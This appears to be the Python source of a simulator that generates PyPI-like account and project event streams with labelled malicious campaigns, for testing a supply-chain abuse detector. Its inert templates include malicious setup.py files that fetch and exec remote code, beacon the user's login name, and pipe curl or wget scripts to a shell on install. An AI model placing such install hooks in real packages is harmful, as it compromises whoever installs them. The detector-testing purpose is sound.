"""A seeded generator of PyPI-like registration streams with labelled campaigns.

Baseline (research/campaigns.md §1): about 330 new accounts and 356 new
projects a day plus releases of existing projects, with an hour-of-week shape
(weekday 14-17 UTC at ~1.6x the mean, nights and weekends at ~0.5-0.65x) and a
late-December dip; legitimate bursts a detector must not flag (one owner's
release train or SDK family, tutorial ``example-package-<user>`` names).

Campaigns (§2), each placed after the scorer's warm-up:

* ``typosquat-waves``: fresh accounts created in a few hours, then next day one
  typosquat per account in two waves, one shared payload and version (March 2024);
* ``sleeper``: one account, an account burst on one provider, a gap of days, a
  second burst, then a project flood of empty projects (inbox.ru 2025);
* ``account-flood``: one account creating hundreds of empty beacon packages a
  day (RemindSupplyChainRisks 2021);
* ``low-and-slow``: a few accounts a day for weeks under normal volume, with
  generated names and near-identical payloads (EsqueleSquad's tail).

Payload texts are inert strings written for the simulator (documentation IP
ranges); nothing is ever run. Ground truth is returned separately.
"""

from __future__ import annotations

import math
import random
import string
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

from detector.popular import shipped_corpus
from detector.stream.crowds import CROWD_KINDS, add_crowds
from detector.stream.shapes import SHAPE_MAKERS

HOUR = 3600.0
DAY = 86400.0
CAMPAIGN_KINDS = ("typosquat-waves", "sleeper", "account-flood", "low-and-slow")


def _vocab(text: str) -> tuple[str, ...]:
    return tuple(text.split())


_FIRST = _vocab("james mary john patricia robert jennifer michael linda david elizabeth william "
          "barbara richard susan joseph jessica thomas sarah chris karen daniel nancy matt "
          "lisa anthony betty mark sandra paul ashley steven emily andrew donna josh michelle "
          "kevin carol brian amanda george melissa tim deborah ryan laura jacob emma nicolas "
          "wei li yuki hiroshi raj priya ahmed fatima olga ivan pierre marie hans anna lucas "
          "sofia mateo valentina chen jun arjun ananya omar leila sven ingrid pablo carmen")
_LAST = _vocab("smith johnson williams brown jones garcia miller davis rodriguez martinez "
         "hernandez "
         "lopez gonzalez wilson anderson thomas taylor moore jackson martin lee perez thompson "
         "white harris sanchez clark ramirez lewis robinson walker young allen king wright "
         "scott torres nguyen hill flores green adams nelson baker hall rivera campbell "
         "mitchell carter roberts wang zhang liu tanaka suzuki kumar patel singh khan ali "
         "ivanov petrov dubois muller schmidt rossi silva santos kim park novak berg")
_WORDS = _vocab("data stream flow graph parse json yaml toml config cli tool kit util utils core "
          "async http api client server web app auth token cache store queue task job worker "
          "image audio video text nlp vision model train infer bench test mock fixture log "
          "trace metric monitor deploy cloud aws gcp azure docker k8s helm infra net socket "
          "crypto hash sign key vault secret env path file io csv excel pdf html xml markdown "
          "doc docs sphinx lint format type check schema valid form field table sql orm db "
          "redis kafka mongo postgres mysql sqlite geo map plot chart dash viz stats math "
          "fast tiny simple easy smart auto quick mini micro lite pro open py lab note book "
          "bot chat slack discord telegram mail sms notify event hook plugin ext extra contrib "
          "sdk lib gen build make pack wheel dist sync fetch scrape crawl spider search index "
          "rank vector embed agent llm prompt pipe pipeline etl batch spark dask ray torch")
_FRAMEWORKS = _vocab("django flask pytest fastapi sphinx mkdocs airflow dagster odoo-addon types "
               "mypy-boto3 pulumi azure")
_TLDS = ("com", "io", "org", "net", "dev", "edu", "de", "co.uk", "fr", "ai")
_PROVIDERS = (("gmail.com", 0.42), ("outlook.com", 0.04), ("hotmail.com", 0.03),
              ("yahoo.com", 0.03), ("proton.me", 0.02), ("protonmail.com", 0.01),
              ("qq.com", 0.04), ("163.com", 0.02), ("icloud.com", 0.02), ("mail.ru", 0.01),
              ("inbox.ru", 0.004), ("yandex.ru", 0.01), ("gmx.de", 0.01), ("web.de", 0.006))
_BROWSERS = tuple(
    f"Mozilla/5.0 ({os_}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
    for os_ in ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7",
                "X11; Linux x86_64")
    for v in range(118, 131)
) + tuple(f"Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
          for v in range(115, 133))

# Inert payload texts (never executed; documentation-range addresses).
_STAGE2 = '''from setuptools import setup
import urllib.request
def _bootstrap():
    blob = urllib.request.urlopen("http://198.51.100.23/{token}/stage2").read()
    exec(__import__("base64").b64decode(blob))
_bootstrap()
setup(name="{name}", version="{version}", packages=[])
'''
_BEACON = '''import os
import urllib.request
from setuptools import setup
urllib.request.urlopen("http://203.0.113.9/hit?p={name}&u=" + os.getlogin())
setup(name="{name}", version="{version}")
'''
_EMPTY = 'from setuptools import setup\nsetup(name="{name}", version="{version}")\n'
_SLOW = ['''import os, subprocess
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    def run(self):
        subprocess.Popen("curl -s http://192.0.2.{octet}/x.sh | sh", shell=True)
        install.run(self)
setup(name="{name}", version="{version}", cmdclass={{"install": Post}})
''', '''from setuptools import setup
from setuptools.command.install import install
import os
class Post(install):
    def run(self):
        os.system("wget -qO- http://192.0.2.{octet}/y.sh | bash")
        install.run(self)
setup(name="{name}", version="{version}", cmdclass={{"install": Post}})
''']
_BENIGN = '''from setuptools import setup, find_packages

setup(
    name="{name}",
    version="{version}",
    description="{summary}",
    author="{author}",
    author_email="{email}",
    packages=find_packages(),
    install_requires={deps},
    python_requires=">={py}",
)
'''
_TUTORIAL = '''import setuptools

with open("README.md", "r") as fh:
    long_description = fh.read()

setuptools.setup(
    name="{name}",
    version="0.0.1",
    author="Example Author",
    description="A small example package",
    packages=setuptools.find_packages(),
)
'''


@dataclass
class SimConfig:
    """Knobs of the simulator; the defaults follow research/campaigns.md."""

    days: int = 90
    seed: int = 0
    start: str = "2025-01-06T00:00:00Z"
    accounts_per_day: float = 330.0
    projects_per_day: float = 356.0
    releases_per_day: float = 150.0
    files_share: float = 0.3
    campaigns: tuple[str, ...] = CAMPAIGN_KINDS
    first_campaign_day: float = 8.0
    scale: float = 1.0
    crowds: tuple[str, ...] = CROWD_KINDS  # benign crowds (detector.stream.crowds)
    extra: dict[str, Any] = field(default_factory=dict)


def _load_popular(limit: int = 1500) -> list[str]:
    return shipped_corpus().top(limit)


def season(ts: float) -> float:
    """Traffic multiplier at ``ts``: hour of day, day of week, late-December dip (mean ~1)."""
    moment = datetime.fromtimestamp(ts, UTC)
    hour = moment.hour + moment.minute / 60
    daily = 1.0 + 0.6 * math.exp(-((hour - 15.5) ** 2) / 18) - 0.45 * math.exp(
        -((hour - 3.5) ** 2) / 10)
    weekly = (1.08, 1.1, 1.1, 1.08, 0.98, 0.6, 0.65)[moment.weekday()]
    dip = 0.7 if (moment.month == 12 and moment.day >= 23) or (
        moment.month == 1 and moment.day == 1) else 1.0
    return daily * weekly * dip / 1.01


class _World:
    """Mutable state of one simulation: accounts, projects, names in use."""

    def __init__(self, rng: random.Random, start: float) -> None:
        self.rng = rng
        self.start = start
        self.names: set[str] = set()
        self.projects: list[tuple[str, str]] = []  # (project, owner)
        self.owners: list[str] = []  # accounts able to create projects
        self.usernames: set[str] = set()
        self.events: list[tuple[float, int, dict[str, Any], dict[str, Any]]] = []
        self.counter = 0
        self.days: float = 0.0
        self.popular = _load_popular()
        for _ in range(4000):
            self.owners.append(self.username())
        for _ in range(6000):
            self.projects.append((self.project_name(), self.rng.choice(self.owners)))

    def emit(self, ts: float, event: dict[str, Any], label: dict[str, Any]) -> None:
        self.counter += 1
        event["id"] = f"e{self.counter}"
        event["ts"] = ts
        label["id"] = event["id"]
        self.events.append((ts, self.counter, event, label))

    def username(self) -> str:
        rng = self.rng
        for _ in range(50):
            first, last = rng.choice(_FIRST), rng.choice(_LAST)
            style = rng.random()
            if style < 0.25:
                name = f"{first}{last}"
            elif style < 0.45:
                name = f"{first}{rng.choice(['', '_', '.', '-'])}{last}{rng.randint(1, 99)}"
            elif style < 0.6:
                name = f"{first[0]}{last}"
            elif style < 0.72:
                name = f"{first}{rng.randint(1970, 2009)}"
            elif style < 0.85:
                name = f"{rng.choice(_WORDS)}{rng.choice(['', '-', '_'])}{first}"
            else:
                name = f"{first}-{rng.choice(_WORDS)}{rng.choice(['', str(rng.randint(1, 9))])}"
            if name not in self.usernames:
                self.usernames.add(name)
                return name
        name = f"user{len(self.usernames)}x{rng.randint(0, 999)}"
        self.usernames.add(name)
        return name

    def email(self, username: str) -> str:
        rng = self.rng
        roll = rng.random()
        acc = 0.0
        for domain, share in _PROVIDERS:
            acc += share
            if roll < acc:
                return f"{username.replace('-', '.')}@{domain}"
        org = rng.choice(_WORDS) + rng.choice(["", "labs", "soft", "tech", "corp", "uni", "ai"])
        return f"{username.split('-')[0]}@{org}.{rng.choice(_TLDS)}"

    def ip(self) -> str:
        rng = self.rng
        return f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}." \
               f"{rng.randint(1, 254)}"

    def project_name(self) -> str:
        rng = self.rng
        for _ in range(100):
            roll = rng.random()
            w = rng.choice
            if roll < 0.25:
                name = f"{w(_WORDS)}-{w(_WORDS)}"
            elif roll < 0.4:
                name = f"{w(_FRAMEWORKS)}-{w(_WORDS)}"
            elif roll < 0.55:
                name = f"py{w(_WORDS)}{w(_WORDS)}"
            elif roll < 0.7:
                name = f"{w(_WORDS)}{w(_WORDS)}"
            elif roll < 0.8:
                name = f"{w(_WORDS)}-{w(_WORDS)}-{w(_WORDS)}"
            elif roll < 0.9:
                name = f"{w(_LAST)}-{w(_WORDS)}"
            else:
                name = f"{w(_WORDS)}{w(_WORDS)}{rng.randint(2, 99)}"
            if name not in self.names:
                self.names.add(name)
                return name
        name = f"{rng.choice(_WORDS)}-{rng.randrange(10**6)}"
        self.names.add(name)
        return name


def _version(rng: random.Random) -> str:
    return f"{rng.choice([0, 0, 0, 1, 1, 2])}.{rng.randint(0, 12)}.{rng.randint(0, 9)}"


def _benign_files(world: _World, name: str, owner: str, version: str) -> dict[str, str]:
    rng = world.rng
    kind = rng.choice(["library", "toolkit", "client", "helper", "plugin", "framework"])
    summary = (f"{rng.choice(['A', 'The', 'Simple', 'Fast', 'Tiny'])} "
               f"{rng.choice(_WORDS)} {rng.choice(_WORDS)} {kind} for {rng.choice(_WORDS)}")
    deps = sorted(rng.sample(["requests", "click", "numpy", "pandas", "pydantic", "rich",
                              "httpx", "attrs", "typer", "pyyaml", "jinja2"], rng.randint(0, 4)))
    return {"setup.py": _BENIGN.format(name=name, version=version, summary=summary,
                                       author=owner, email=f"{owner}@example.org",
                                       deps=deps, py=f"3.{rng.randint(7, 11)}")}


def _baseline(world: _World, cfg: SimConfig) -> None:
    rng = world.rng
    start, end = world.start, world.start + cfg.days * DAY
    hours = int(cfg.days * 24)
    recent_new: list[tuple[float, str]] = []
    for h in range(hours):
        t0 = start + h * HOUR
        factor = season(t0 + HOUR / 2)
        for _ in range(_poisson(rng, cfg.accounts_per_day / 24 * factor)):
            ts = t0 + rng.random() * HOUR
            user = world.username()
            account: dict[str, Any] = {"username": user, "email": world.email(user)}
            if rng.random() < 0.8:
                account["ip"] = world.ip()
                account["user_agent"] = rng.choice(_BROWSERS)
            world.emit(ts, {"type": "account.created", "account": account},
                       {"campaign": None, "kind": "baseline"})
            if rng.random() < 0.3:
                recent_new.append((ts + rng.expovariate(1 / (1.5 * DAY)), user))
            else:
                world.owners.append(user)
        # About 30% of new accounts publish a first project themselves (below).
        owner_rate = max(0.0, cfg.projects_per_day - 0.3 * cfg.accounts_per_day)
        for _ in range(_poisson(rng, owner_rate / 24 * factor)):
            ts = t0 + rng.random() * HOUR
            owner = rng.choice(world.owners)
            _project(world, cfg, ts, owner, "project.created")
        for _ in range(_poisson(rng, cfg.releases_per_day / 24 * factor)):
            if not world.projects:
                break
            ts = t0 + rng.random() * HOUR
            project, owner = rng.choice(world.projects)
            _release(world, cfg, ts, project, owner)
        # A share of new accounts publishes a first project a little later.
        for ts, user in recent_new:
            if ts < end:
                _project(world, cfg, ts, user, "project.created")
            world.owners.append(user)
        recent_new.clear()
        # Legitimate bursts.
        if rng.random() < 1 / 40:
            _release_train(world, cfg, t0 + rng.random() * HOUR)
        if rng.random() < 1 / 60:
            ts = t0 + rng.random() * HOUR
            user = world.username()
            world.emit(ts, {"type": "account.created", "account": {
                "username": user, "email": world.email(user)}},
                {"campaign": None, "kind": "baseline"})
            name = f"example-package-{user.lower().replace('.', '-').replace('_', '-')}"
            if name not in world.names:
                world.names.add(name)
                ts2 = ts + rng.random() * 3 * HOUR
                world.emit(ts2, {"type": "project.created", "account": {"username": user},
                                 "project": {"name": name, "version": "0.0.1",
                                             "summary": "A small example package",
                                             "files": {"setup.py": _TUTORIAL.format(name=name)}}},
                           {"campaign": None, "kind": "baseline"})


def _poisson(rng: random.Random, mu: float) -> int:
    if mu <= 0:
        return 0
    if mu > 50:
        return max(0, round(rng.gauss(mu, math.sqrt(mu))))
    threshold, k, p = math.exp(-mu), 0, 1.0
    while True:
        p *= rng.random()
        if p <= threshold:
            return k
        k += 1


def _project(world: _World, cfg: SimConfig, ts: float, owner: str, kind: str,
             name: str | None = None) -> None:
    rng = world.rng
    name = name or world.project_name()
    version = _version(rng)
    project: dict[str, Any] = {"name": name, "version": version}
    if rng.random() < 0.8:
        project["summary"] = f"{rng.choice(_WORDS).title()} {rng.choice(_WORDS)} " \
                             f"{rng.choice(['for Python', 'made easy', 'utilities', 'tools'])}"
    if rng.random() < cfg.files_share:
        project["files"] = _benign_files(world, name, owner, version)
    world.projects.append((name, owner))
    world.emit(ts, {"type": kind, "account": {"username": owner}, "project": project},
               {"campaign": None, "kind": "baseline"})


def _release(world: _World, cfg: SimConfig, ts: float, project: str, owner: str) -> None:
    rng = world.rng
    body: dict[str, Any] = {"name": project, "version": _version(rng)}
    if rng.random() < cfg.files_share / 3:
        body["files"] = _benign_files(world, project, owner, body["version"])
    world.emit(ts, {"type": "release.uploaded", "account": {"username": owner},
                    "project": body}, {"campaign": None, "kind": "baseline"})


def _release_train(world: _World, cfg: SimConfig, ts: float) -> None:
    """One established owner releasing or creating a family of projects within a minute."""
    rng = world.rng
    owner = rng.choice(world.owners[:4000])
    family = f"{rng.choice(_WORDS)}{rng.choice(['', '-sdk', '-cloud', 'kit'])}"
    version = f"{rng.randint(1, 5)}.{rng.randint(0, 20)}.0.dev{rng.randint(10**7, 10**8)}"
    kind = "project.created" if rng.random() < 0.5 else "release.uploaded"
    for i in range(rng.randint(8, 36)):
        name = f"{family}-{rng.choice(_WORDS)}{i}"
        if kind == "project.created" and name in world.names:
            continue
        world.names.add(name)
        world.projects.append((name, owner))
        files = {"setup.py": _EMPTY.format(name=name, version=version)}
        world.emit(ts + i * rng.uniform(0.5, 3), {
            "type": kind, "account": {"username": owner},
            "project": {"name": name, "version": version, "summary": f"{family} component",
                        "files": files}}, {"campaign": None, "kind": "baseline"})


def _typo(rng: random.Random, target: str) -> str:
    letters = string.ascii_lowercase
    i = rng.randrange(len(target))
    op = rng.random()
    if op < 0.3 and len(target) > 4:
        return target[:i] + target[i + 1:]
    if op < 0.55 and i < len(target) - 1:
        return target[:i] + target[i + 1] + target[i] + target[i + 2:]
    if op < 0.8:
        return target[:i] + rng.choice(letters) + target[i + 1:]
    return target[:i] + rng.choice(letters) + target[i:]


def _machine_username(rng: random.Random, style: int) -> str:
    letters = string.ascii_lowercase
    if style == 0:
        return "".join(rng.choice(letters) for _ in range(rng.randint(8, 10)))
    if style == 1:
        return "".join(rng.choice(letters) for _ in range(6)) + str(rng.randint(100, 999))
    return rng.choice(_FIRST) + "".join(rng.choice(letters) for _ in range(4)) + \
        str(rng.randint(10, 99))


def _campaign_typosquat(world: _World, cfg: SimConfig, cid: str, day: float) -> None:
    rng = world.rng
    n = max(20, int(rng.randint(150, 450) * cfg.scale))
    t0 = world.start + day * DAY + rng.uniform(0, 20) * HOUR
    style = rng.randrange(3)
    ua = rng.choice(_BROWSERS)
    targets = rng.sample(world.popular[:600], rng.randint(8, 20))
    version = f"{rng.randint(1, 3)}.{rng.randint(0, 9)}.{rng.randint(0, 9)}"
    token = "".join(rng.choice(string.ascii_lowercase) for _ in range(8))
    span = rng.uniform(2, 4) * HOUR
    label = {"campaign": cid, "kind": "typosquat-waves"}
    users = []
    for i in range(n):
        user = _machine_username(rng, style)
        if user in world.usernames:
            continue
        world.usernames.add(user)
        ts = t0 + span * i / n + rng.uniform(0, 30)
        domain = rng.choice(["gmail.com", "outlook.com", "hotmail.com", "yahoo.com"])
        account: dict[str, Any] = {"username": user, "email": f"{user}@{domain}"}
        if rng.random() < 0.9:
            account["ip"] = world.ip()
            account["user_agent"] = ua
        world.emit(ts, {"type": "account.created", "account": account}, dict(label))
        users.append(user)
    first_wave = int(len(users) * rng.uniform(0.35, 0.45))
    wave_starts = (t0 + DAY + rng.uniform(0, 3) * HOUR, t0 + DAY + rng.uniform(6, 10) * HOUR)
    for i, user in enumerate(users):
        wave = 0 if i < first_wave else 1
        count = first_wave if wave == 0 else len(users) - first_wave
        position = i if wave == 0 else i - first_wave
        ts = wave_starts[wave] + 1.5 * HOUR * position / max(1, count) + rng.uniform(0, 20)
        for _ in range(20):
            name = _typo(rng, rng.choice(targets))
            if name not in world.names and name not in world.popular:
                break
        world.names.add(name)
        files = {"setup.py": _STAGE2.format(name=name, version=version, token=token)}
        world.emit(ts, {"type": "project.created", "account": {"username": user},
                        "project": {"name": name, "version": version, "files": files}},
                   dict(label))


def _campaign_sleeper(world: _World, cfg: SimConfig, cid: str, day: float) -> None:
    rng = world.rng
    label = {"campaign": cid, "kind": "sleeper"}
    domain = rng.choice(["inbox.ru", "list.ru", "bk.ru", "yandex.ru", "outlook.com"])
    t0 = world.start + day * DAY
    users: list[str] = []

    def burst(at: float, n: int, hours: float) -> None:
        for i in range(n):
            user = f"{rng.choice(_FIRST)}{rng.choice(['', '.', '_'])}{rng.choice(_LAST)}" \
                   f"{rng.randint(1, 9999)}"
            if user in world.usernames:
                continue
            world.usernames.add(user)
            ts = at + hours * HOUR * i / n + rng.uniform(0, 60)
            world.emit(ts, {"type": "account.created", "account": {
                "username": user, "email": f"{user}@{domain}"}}, dict(label))
            users.append(user)

    burst(t0, 1, 0.1)
    burst(t0 + rng.uniform(1.5, 3) * DAY, max(20, int(rng.randint(30, 60) * cfg.scale)), 3)
    second = t0 + rng.uniform(12, 16) * DAY
    burst(second, max(20, int(rng.randint(120, 220) * cfg.scale)), 4)
    flood_start = second + rng.uniform(2, 4) * DAY
    per_day = [9, 295, 39, 119, 740, 249, 46, 0, 0, 0, 0, 0, 16, 12]
    scale = len(users) * 6 / sum(per_day)
    for d, count in enumerate(per_day):
        for _ in range(round(count * scale)):
            ts = flood_start + d * DAY + rng.random() * DAY
            user = rng.choice(users)
            name = world.project_name()
            project: dict[str, Any] = {"name": name, "version": "0.0.1"}
            if rng.random() < 0.5:
                project["files"] = {"setup.py": _EMPTY.format(name=name, version="0.0.1")}
            world.emit(ts, {"type": "project.created", "account": {"username": user},
                            "project": project}, dict(label))


def _campaign_flood(world: _World, cfg: SimConfig, cid: str, day: float) -> None:
    rng = world.rng
    label = {"campaign": cid, "kind": "account-flood"}
    user = rng.choice(["RemindSupplyChainRisks", "SupplyChainNotice", "PkgAwareness"]) + \
        str(rng.randint(1, 99))
    world.usernames.add(user)
    t0 = world.start + day * DAY
    world.emit(t0, {"type": "account.created", "account": {
        "username": user, "email": f"{user.lower()}@gmail.com"}}, dict(label))
    total = max(100, int(rng.randint(800, 2500) * cfg.scale))
    rate = rng.uniform(700, 900) / DAY
    ts = t0 + rng.uniform(0.5, 6) * HOUR
    for _ in range(total):
        ts += rng.expovariate(rate)
        name = _typo(rng, rng.choice(world.popular[:1000])) if rng.random() < 0.15 else ""
        if not name or name in world.names or name in world.popular:
            name = world.project_name()
        world.names.add(name)
        files = {"setup.py": _BEACON.format(name=name, version="0.0.1")}
        world.emit(ts, {"type": "project.created", "account": {"username": user},
                        "project": {"name": name, "version": "0.0.1", "files": files}},
                   dict(label))


def _campaign_slow(world: _World, cfg: SimConfig, cid: str, day: float) -> None:
    rng = world.rng
    label = {"campaign": cid, "kind": "low-and-slow"}
    prefixes = rng.sample(["tp", "esq", "lib", "self", "py-"], 3)
    vocab = rng.sample(_WORDS, 30)
    domain = rng.choice(["proton.me", "tutanota.com", "gmx.de", "yandex.ru"])
    n = max(20, int(rng.randint(24, 40) * cfg.scale))
    t = world.start + day * DAY
    octet = rng.randint(1, 254)
    summary = f"{rng.choice(vocab).title()} {rng.choice(vocab)} helper"
    for _ in range(n):
        t += rng.expovariate(1.5 / DAY)
        user = f"{rng.choice(_FIRST)}{rng.choice(_LAST)}{rng.randint(10, 99)}"
        if user in world.usernames:
            continue
        world.usernames.add(user)
        world.emit(t, {"type": "account.created", "account": {
            "username": user, "email": f"{user}@{domain}"}}, dict(label))
        when = t
        for _ in range(rng.randint(2, 4)):
            when += rng.uniform(0.2, 2.5) * DAY
            name = rng.choice(prefixes) + "".join(rng.sample(vocab, rng.randint(2, 3)))
            if name in world.names:
                continue
            world.names.add(name)
            version = f"{rng.randint(1, 9)}.{rng.randint(10, 99)}"
            files = {"setup.py": rng.choice(_SLOW).format(name=name, version=version,
                                                          octet=octet)}
            world.emit(when, {"type": "project.created", "account": {"username": user},
                              "project": {"name": name, "version": version,
                                          "summary": summary, "files": files}}, dict(label))


_MAKERS = {
    "typosquat-waves": (_campaign_typosquat, 2.0),
    "sleeper": (_campaign_sleeper, 30.0),
    "account-flood": (_campaign_flood, 4.0),
    "low-and-slow": (_campaign_slow, 40.0),
}
# Campaign shapes held by one cohort (scoped breaker pauses), asked for by name only.
_MAKERS.update(SHAPE_MAKERS)


def simulate(cfg: SimConfig) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Events (ordered by ts, CONTRACT §3) and their labels, one label per event."""
    rng = random.Random(cfg.seed)
    start = datetime.fromisoformat(cfg.start).timestamp()
    world = _World(rng, start)
    world.days = cfg.days
    _baseline(world, cfg)
    add_crowds(world, cfg)
    period = 90.0
    number = 0
    for block in range(max(1, math.ceil(cfg.days / period))):
        base = block * period
        for kind in cfg.campaigns:
            maker, length = _MAKERS[kind]
            lo = base + cfg.first_campaign_day
            hi = min(base + period, cfg.days) - length - 1
            if hi <= lo:
                continue
            number += 1
            maker(world, cfg, f"sim-{number}-{kind}", rng.uniform(lo, hi))
    end = start + cfg.days * DAY
    world.events.sort(key=lambda item: (item[0], item[1]))
    events, labels = [], []
    for ts, _, event, label in world.events:
        if ts >= end:
            continue
        event["ts"] = datetime.fromtimestamp(ts, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        events.append({"id": event.pop("id"), "ts": event.pop("ts"), **event})
        labels.append(label)
    return events, labels


def iter_jsonl(objects: list[dict[str, Any]]) -> Iterator[str]:
    import json

    for obj in objects:
        yield json.dumps(obj, separators=(",", ":")) + "\n"
